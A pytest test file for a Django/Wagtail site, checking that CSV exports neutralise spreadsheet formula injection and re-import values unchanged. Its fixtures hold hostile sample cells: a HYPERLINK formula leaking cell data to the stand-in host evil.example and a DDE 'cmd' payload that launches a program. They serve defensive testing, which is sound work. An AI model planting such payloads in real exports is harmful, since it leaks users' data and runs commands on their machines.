"""CSV exports never carry a live formula, and an export imports again value for value."""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.utils import translation
from wagtail.models import Locale

from accounts.testing import force_verified_login
from districts.importing import COLUMNS, import_districts
from districts.models import District
from editorial.roles import ADMINISTRATORS, EDITORS
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TRICKY = [
    {"slug": "formula", "name": FORMULA, "city": "-Minus", "short_description": '@SUM(1+1)*cmd|" /C calc"!A0'},
    {"slug": "quotes", "name": 'Science City "Lyngby"', "city": "+45 By", "short_description": 'Say "hi";, then\nleave'},
    {"slug": "apostrophe", "name": "'=already escaped by hand", "city": "'t Hoff", "short_description": "''@twice"},
    {"slug": "plain", "name": "Plain District", "city": "Lyngby", "short_description": ""},
]


def district(**values):
    defaults = {"country": "DK", "continent": "europe", "latitude": Decimal("-33.86882"),
                "longitude": Decimal("-151.20930"), "locale": Locale.get_default(), "website": ""}
    return District.objects.create(**{**defaults, **values})


def export(client, user_group=EDITORS) -> str:
    client.force_login(UserFactory(groups=[user_group]))
    response = client.get("/admin/snippets/districts/district/", {"export": "csv"})
    assert response.status_code == 200
    return (b"".join(response.streaming_content) if response.streaming else response.content).decode("utf-8-sig")


def exported_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_no_cell_of_the_export_begins_a_formula(client, site_content):
    made = [district(**values) for values in TRICKY]
    made.append(district(slug="tab", name="\tTabbed", city="\rReturn"))
    text = export(client)
    rows = {row["slug"]: row for row in exported_rows(text)}
    assert rows["formula"]["name"] == "'" + FORMULA
    assert rows["formula"]["city"] == "'-Minus"
    assert rows["quotes"]["city"] == "'+45 By"
    assert rows["tab"]["name"] == "'\tTabbed"
    assert rows["tab"]["city"] == "'\rReturn"
    for row in rows.values():
        for column, value in row.items():
            assert not value.startswith(TRIGGERS), (row["slug"], column, value)
    assert len(made) == 5


def test_other_csv_exports_of_the_admin_are_escaped_too(client, site_content):
    # Wagtail's own reports write CSV through the same machinery: a page title or a username is an input too.
    from partnerships.models import HomePage

    page = HomePage.objects.get(locale=Locale.get_default())
    page.title = "=1+1"
    page.save_revision(user=None, log_action=True).publish(log_action=True)
    force_verified_login(client, UserFactory(groups=[ADMINISTRATORS], is_superuser=True))
    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    text = (b"".join(response.streaming_content) if response.streaming else response.content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=1+1" in cells
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]


def test_an_export_imports_again_value_for_value(client, site_content, tmp_path):
    made = [district(**values) for values in TRICKY]
    originals = {item.slug: {column: getattr(item, column) for column in COLUMNS} for item in made}
    path = tmp_path / "export.csv"
    path.write_text(export(client), encoding="utf-8")
    District.objects.filter(pk__in=[item.pk for item in made]).delete()

    out = io.StringIO()
    call_command("import_districts", str(path), stdout=out)
    assert "4 nye" in out.getvalue()
    for slug, values in originals.items():
        imported = District.objects.get(slug=slug, locale=Locale.get_default())
        assert {column: getattr(imported, column) for column in COLUMNS} == values, slug


def test_only_the_exports_own_prefix_is_undone(site_content):
    header = ",".join(COLUMNS)
    rows = [
        "'=SUM(A1),sum,'-Lyngby,DK,europe,member,,55.78,12.50,,da,'@desc",
        "'Kun et anførselstegn,apostrophe-only,Lyngby,DK,europe,member,,55.78,12.50,,da,''=two",
    ]
    result = import_districts("\n".join([header, *rows]).encode())
    assert not result.errors, [str(error) for error in result.errors]
    summed = District.objects.get(slug="sum", locale=Locale.get_default())
    assert (summed.name, summed.city, summed.short_description) == ("=SUM(A1)", "-Lyngby", "@desc")
    kept = District.objects.get(slug="apostrophe-only", locale=Locale.get_default())
    assert (kept.name, kept.short_description) == ("'Kun et anførselstegn", "'=two")


def test_doubled_quotes_import_as_one_quote(site_content):
    header = ",".join(COLUMNS)
    row = '"Science City ""Lyngby""",lyngby-quoted,Lyngby,DK,europe,member,,55.78,12.50,,da,"Siger ""hej"", og går"'
    result = import_districts(f"{header}\n{row}\n".encode())
    assert not result.errors, [str(error) for error in result.errors]
    imported = District.objects.get(slug="lyngby-quoted", locale=Locale.get_default())
    assert imported.name == 'Science City "Lyngby"'
    assert imported.short_description == 'Siger "hej", og går'


def test_semicolon_files_keep_their_quotes_too(site_content):
    header = ";".join(COLUMNS)
    row = '"Science City ""Lyngby""";semi-quoted;Lyngby;DK;europe;member;;55.78;12.50;;da;"a;b"'
    result = import_districts(f"{header}\n{row}\n".encode())
    assert not result.errors, [str(error) for error in result.errors]
    imported = District.objects.get(slug="semi-quoted", locale=Locale.get_default())
    assert (imported.name, imported.short_description) == ('Science City "Lyngby"', "a;b")


def test_an_over_long_field_is_named_with_its_row_and_nothing_is_imported(site_content, tmp_path):
    header = ",".join(COLUMNS)
    good = "Fine District,fine,Lyngby,DK,europe,member,,55.78,12.50,,da,"
    long_row = "Long District,long,Lyngby,DK,europe,member,,55.78,12.50,,da," + "x" * 140_000
    path = tmp_path / "long.csv"
    path.write_text("\n".join([header, good, long_row]) + "\n", encoding="utf-8")
    err = io.StringIO()
    with pytest.raises(CommandError, match="Intet blev importeret"):
        call_command("import_districts", str(path), stdout=io.StringIO(), stderr=err)
    assert "Række 3, short_description: Værdien er længere end 131072 tegn." in err.getvalue()
    assert not District.objects.filter(slug__in=["fine", "long"]).exists()

    with translation.override("sv"):
        result = import_districts(path.read_bytes())
        assert [(error.row, error.field) for error in result.errors] == [(3, "short_description")]
        assert str(result.errors[0]).startswith("Rad 3, short_description")


def test_a_row_csv_cannot_read_is_named(site_content):
    header = ",".join(COLUMNS)
    good = "Fine District,fine,Lyngby,DK,europe,member,,55.78,12.50,,da,"
    with translation.override("da"):
        result = import_districts(f"{header}\n{good}\nBroken,broken,Lyn\rgby,DK,europe,member,,1,1,,da,\n".encode())
        assert [str(error) for error in result.errors] == [
            "Række 3, fil: Rækken er ikke gyldig CSV: tjek dens anførselstegn og linjeskift."
        ]
    assert not District.objects.filter(slug="fine").exists()


SPLIT_OFF = {
    "semicolon": {"name": 'Lund;=HYPERLINK("http://evil.example/?leak="&B2,"Klik")', "city": "Malmö; +46 By",
                  "short_description": "Første linje\n=1+1\n@SUM(1)\t-2,+3;'=quoted by hand"},
}


def pieces_a_spreadsheet_may_split_off(text: str) -> list[str]:
    """Every piece of the file that may begin a cell in some spreadsheet: Danish and Swedish Excel split
    a comma-separated file at semicolons (their list separator), quotes or not, others at commas or tabs,
    and a line break inside a quoted cell begins a row where the quoting is not understood."""
    return [piece.lstrip('"') for line in text.splitlines() for piece in re.split(r"[;,\t]", line)]


def test_no_piece_a_spreadsheet_may_split_off_begins_a_formula(client, site_content):
    district(slug="semicolon", **SPLIT_OFF["semicolon"])
    pieces = pieces_a_spreadsheet_may_split_off(export(client))
    assert "'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2" in pieces  # the cell is quoted: its quotes doubled
    assert [piece for piece in pieces if piece.startswith(TRIGGERS)] == []


def test_cells_with_separators_import_again_value_for_value(client, site_content, tmp_path):
    made = district(slug="semicolon", **SPLIT_OFF["semicolon"])
    original = {column: getattr(made, column) for column in COLUMNS}
    path = tmp_path / "export.csv"
    path.write_text(export(client), encoding="utf-8")
    made.delete()
    call_command("import_districts", str(path), stdout=io.StringIO())
    imported = District.objects.get(slug="semicolon", locale=Locale.get_default())
    assert {column: getattr(imported, column) for column in COLUMNS} == original
